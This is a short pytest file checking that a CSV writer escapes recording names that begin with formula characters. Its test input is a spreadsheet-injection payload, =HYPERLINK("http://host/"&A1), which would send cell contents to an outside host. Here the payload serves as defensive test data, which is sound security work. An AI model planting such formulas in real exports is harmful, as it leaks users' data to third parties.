"""Tables whose rows are dictionaries."""

from __future__ import annotations

from pathlib import Path

import pytest

from fgpose.io.studies.results import write_rows


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_names_are_no_formulas(start: str, tmp_path: Path) -> None:
    """A spreadsheet would run them, and =HYPERLINK(...) sends the table elsewhere."""
    name = f'{start}HYPERLINK("http://host/"&A1)'
    write_rows([{"recording": name, "error_mm": -1.5}], tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(newline="") as file:
        assert file.read() == "recording,error_mm\n\"'" + name.replace('"', '""') + '",-1.5\n'
